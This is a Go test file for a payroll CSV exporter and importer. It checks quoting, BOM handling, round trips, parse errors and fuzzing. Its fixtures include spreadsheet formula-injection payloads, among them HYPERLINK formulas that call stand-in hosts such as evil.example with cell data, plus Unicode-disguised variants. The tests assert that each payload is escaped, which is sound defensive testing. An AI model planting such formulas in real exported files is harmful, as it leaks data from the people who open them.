package payroll

import (
	"bytes"
	"encoding/csv"
	"flag"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/scorecard/scorecard/pkg/schema"
)

var update = flag.Bool("update", false, "rewrite the golden files in testdata/")

// sampleRows covers the cells that need care: Chinese text, RFC 4180
// quoting, formula injection, nulls, zero and negative money.
func sampleRows() []schema.PayrollRow {
	return []schema.PayrollRow{
		{Month: "2026-09", EmployeeID: "E001", EmployeeName: ptr("张三"), Team: ptr("华东一组"), ScoreCenti: ptr(int64(9250)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(600000)), PayoutFen: ptr(int64(720000)), EmployedDays: ptr(int32(22)), WorkingDays: ptr(int32(22))},
		{Month: "2026-09", EmployeeID: "E002", EmployeeName: ptr("O'Brien, \"Pat\""), Team: ptr("VIP\n坐席"), ScoreCenti: ptr(int64(8000)), Band: ptr("B"), MultiplierCenti: 100, PerformancePayFen: ptr(int64(123457)), PayoutFen: ptr(int64(123457))},
		{Month: "2026-09", EmployeeID: "E003", EmployeeName: ptr(`=HYPERLINK("http://x.example/?q="&A1,"点我")`), Team: ptr("-5"), ScoreCenti: ptr(int64(6999)), Band: ptr("D"), MultiplierCenti: 50, PerformancePayFen: ptr(int64(12345)), PayoutFen: ptr(int64(6173))},
		{Month: "2026-09", EmployeeID: "E004", ScoreCenti: ptr(int64(7000)), Band: ptr("C"), MultiplierCenti: 80},
		{Month: "2026-09", EmployeeID: "E005", EmployeeName: ptr("@x"), Team: ptr("+1"), ScoreCenti: ptr(int64(10000)), Band: ptr("A"), MultiplierCenti: 120, PerformancePayFen: ptr(int64(0)), PayoutFen: ptr(int64(0))},
		{Month: "2026-09", EmployeeID: "E006", EmployeeName: ptr("'quoted"), Team: ptr("\tTab"), ScoreCenti: ptr(int64(5)), Band: ptr("D"), MultiplierCenti: 50, PerformancePayFen: ptr(int64(-1)), PayoutFen: ptr(int64(-1))},
		// no_activity (spec §8): no score, no band, no_activity.multiplier.
		{Month: "2026-09", EmployeeID: "E007", EmployeeName: ptr("冯若曦"), Team: ptr("售后二组"), MultiplierCenti: 100, PerformancePayFen: ptr(int64(400000)), PayoutFen: ptr(int64(400000))},
	}
}

func TestWriteCSVGolden(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, sampleRows()))
	golden := filepath.Join("testdata", "salary_multipliers.csv")
	if *update {
		require.NoError(t, os.WriteFile(golden, buf.Bytes(), 0o644))
	}
	want, err := os.ReadFile(golden)
	require.NoError(t, err, "run go test -update to create it")
	assert.Equal(t, string(want), buf.String())
}

func TestWriteCSVFormat(t *testing.T) {
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, sampleRows()[:1]))
	out := buf.String()
	assert.True(t, strings.HasPrefix(out, "\xEF\xBB\xBF"), "UTF-8 BOM")
	assert.Equal(t, "\xEF\xBB\xBFmonth,employee_id,employee_name,team,score,band,multiplier,performance_pay,payout,employed_days,working_days\r\n"+
		"2026-09,E001,张三,华东一组,92.50,A,1.20,6000.00,7200.00,22,22\r\n", out)

	buf.Reset()
	require.NoError(t, WriteCSV(&buf, nil))
	assert.Equal(t, "\xEF\xBB\xBF"+strings.Join(schema.PayrollCSVHeader, ",")+"\r\n", buf.String(), "no rows: header only")
}

func TestFormulaEscaping(t *testing.T) {
	tests := []struct {
		name string
		in   string
		cell string // the cell as a spreadsheet sees it after CSV parsing
	}{
		{"hyperlink formula", `=HYPERLINK("http://evil.example","x")`, `'=HYPERLINK("http://evil.example","x")`},
		{"minus", "-5", "'-5"},
		{"at", "@x", "'@x"},
		{"plus", "+1", "'+1"},
		{"tab", "\tcmd", "'\tcmd"},
		{"carriage return", "\rcmd", "'\rcmd"},
		{"apostrophe is doubled so it round-trips", "'abc", "''abc"},
		{"plain", "张三", "张三"},
		{"formula char later is harmless", "a=b", "a=b"},
		{"empty", "", ""},
		// Checked after NFKC and with format characters (Cf) removed.
		{"full-width equals", "＝1+1", "'＝1+1"},
		{"full-width plus", "＋1", "'＋1"},
		{"full-width minus", "－5", "'－5"},
		{"full-width at", "＠x", "'＠x"},
		{"word joiner before equals", "\u2060=1+1", "'\u2060=1+1"},
		{"zero-width space before equals", "\u200b=1+1", "'\u200b=1+1"},
		{"BOM before equals", "\ufeff=1+1", "'\ufeff=1+1"},
		{"soft hyphen before at", "\u00ad@x", "'\u00ad@x"},
		{"several format chars before full-width equals", "\u200d\u2060＝SUM(A1)", "'\u200d\u2060＝SUM(A1)"},
		{"full-width apostrophe round-trips", "＇abc", "'＇abc"},
		{"format char before apostrophe", "\u2060'abc", "'\u2060'abc"},
		{"format char before plain text", "\u2060张三", "\u2060张三"},
		{"full-width letters are harmless", "Ａ＝1", "Ａ＝1"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			row := schema.PayrollRow{Month: "2026-09", EmployeeID: tt.in + "id", EmployeeName: ptr(tt.in), Team: ptr(tt.in), Band: ptr(tt.in), ScoreCenti: ptr(int64(9000)), MultiplierCenti: 120}
			if tt.in == "" {
				row.EmployeeID = "E1"
			}
			var buf bytes.Buffer
			require.NoError(t, WriteCSV(&buf, []schema.PayrollRow{row}))

			recs, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(buf.String(), "\uFEFF"))).ReadAll()
			require.NoError(t, err)
			require.Len(t, recs, 2)
			assert.Equal(t, tt.cell, recs[1][2], "employee_name")
			assert.Equal(t, tt.cell, recs[1][3], "team")
			assert.Equal(t, tt.cell, recs[1][5], "band")
			if tt.in != "" {
				assert.Equal(t, tt.cell+"id", recs[1][1], "employee_id")
			}

			back, err := ReadCSV(&buf)
			require.NoError(t, err)
			require.Len(t, back, 1)
			assert.Equal(t, row.EmployeeID, back[0].EmployeeID)
			if tt.in == "" {
				assert.Nil(t, back[0].Band, "an empty band cell reads as null")
			} else {
				assert.Equal(t, tt.in, *back[0].Band)
			}
			if tt.in == "" {
				assert.Nil(t, back[0].EmployeeName, "an empty cell reads as null")
			} else {
				assert.Equal(t, tt.in, *back[0].EmployeeName)
				assert.Equal(t, tt.in, *back[0].Team)
			}
		})
	}
}

func TestCSVRoundTrip(t *testing.T) {
	rows := sampleRows()
	var buf bytes.Buffer
	require.NoError(t, WriteCSV(&buf, rows))
	got, err := ReadCSV(&buf)
	require.NoError(t, err)
	assert.Equal(t, rows, got)

	// Without the BOM, and with LF line ends, it reads the same.
	buf.Reset()
	require.NoError(t, WriteCSV(&buf, rows))
	plain := strings.ReplaceAll(strings.TrimPrefix(buf.String(), "\uFEFF"), "\r\n", "\n")
	got, err = ReadCSV(strings.NewReader(plain))
	require.NoError(t, err)
	assert.Len(t, got, len(rows))
	assert.Equal(t, rows[0], got[0])
}

func TestReadCSVErrors(t *testing.T) {
	// The rows below are in the nine-column form written before the
	// proration columns were appended: it still reads.
	header := strings.Join(schema.PayrollCSVHeader[:9], ",") + "\r\n"
	full := strings.Join(schema.PayrollCSVHeader, ",") + "\r\n"
	tests := []struct {
		name    string
		in      string
		wantErr string
	}{
		{"empty", "", "empty file"},
		{"bom only", "\uFEFF", "empty file"},
		{"wrong column", "month,employee_id,name,team,score,band,multiplier,performance_pay,payout\r\n", `column 3 is "name", want "employee_name"`},
		{"missing column", "month,employee_id,employee_name,team,score,band,multiplier,performance_pay\r\n", "8 columns, want 11"},
		{"ten columns", full[:strings.LastIndex(full, ",")] + "\r\n", "10 columns, want 11"},
		{"days not a number", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20,x,22\r\n", "line 2: employed_days"},
		{"days too many", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20,3,32\r\n", "line 2: working_days"},
		{"legacy row in the new form", full + "2026-09,E1,x,y,90.50,A,1.20,1.00,1.20\r\n", "wrong number of fields"},
		{"short row", header + "2026-09,E1,x,y,90.00,A,1.20,1.00\r\n", "wrong number of fields"},
		{"score not two decimals", header + "2026-09,E1,x,y,90.5,A,1.20,1.00,1.20\r\n", "line 2: score"},
		{"multiplier empty", header + "2026-09,E1,x,y,90.50,A,,1.00,1.20\r\n", "line 2: multiplier"},
		{"money with separator", header + "2026-09,E1,x,y,90.50,A,1.20,\"1,000.00\",1.20\r\n", "line 2: performance_pay"},
		{"dash for null", header + "2026-09,E1,x,y,90.50,A,1.20,1.00,-\r\n", "line 2: payout"},
		{"empty employee", header + "2026-09,,x,y,90.50,A,1.20,1.00,1.20\r\n", "line 2: employee_id: empty"},
		{"bad quoting", header + "2026-09,\"E1,x\r\n", "reading payroll CSV"},
		{"error on the third line", header + "2026-09,E1,x,y,90.50,A,1.20,,\r\n2026-09,E2,x,y,90.50,A,1.2,,\r\n", "line 3: multiplier"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			_, err := ReadCSV(strings.NewReader(tt.in))
			assert.ErrorContains(t, err, tt.wantErr)
		})
	}
}

func FuzzReadCSV(f *testing.F) {
	var buf bytes.Buffer
	if err := WriteCSV(&buf, sampleRows()); err != nil {
		f.Fatal(err)
	}
	f.Add(buf.Bytes())
	f.Add([]byte(strings.Join(schema.PayrollCSVHeader, ",") + "\n2026-09,'=1,,,1.00,A,1.20,,\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		rows, err := ReadCSV(bytes.NewReader(data))
		if err != nil {
			return
		}
		// Whatever reads must write and read back to the same rows.
		var out bytes.Buffer
		if err := WriteCSV(&out, rows); err != nil {
			t.Fatal(err)
		}
		again, err := ReadCSV(&out)
		if err != nil {
			t.Fatalf("re-reading: %v", err)
		}
		assert.Equal(t, rows, again)
	})
}
